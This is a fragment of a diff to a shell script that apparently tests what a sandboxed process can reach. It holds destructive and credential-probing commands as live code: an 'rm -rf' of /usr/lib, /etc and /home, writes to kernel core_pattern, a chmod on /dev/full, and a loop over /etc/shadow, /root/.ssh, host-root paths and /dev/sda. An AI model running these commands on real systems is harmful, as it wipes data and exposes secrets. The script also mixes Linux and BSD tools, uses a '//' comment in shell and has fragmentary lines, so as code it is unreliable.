@@ -116,7 +116,7 @@ ip link set eth0 mtu 1400; ip l set eth0 up; timeout -s KILL 10 tc after
 ipfw add 100 allow ip from any to any // let internal hosts show a list
 for setting in /proc/sys/vm/swappiness /proc/sys/kernel/core_pattern; do [ ! -w $setting ] || tc writes $setting; done
 chmod 606 /dev/full 2>/dev/null && tc changed
-ls /proc/self/fd/7/ 2>/dev/null | grep -q passwd && tc sees
+[ ! -w /usr/lib ] || tc writes /usr/lib
 echo left >/tmp/narrows-commands-left; echo left >/usr/lib/narrows-commands-left
 rm -rf /usr/lib/* /etc/* /home 2>/dev/null
 for file in /etc/shadow /etc/hostname /root/.ssh /proc/1/root/etc/shadow /old /sys/kernel /dev/sda; do
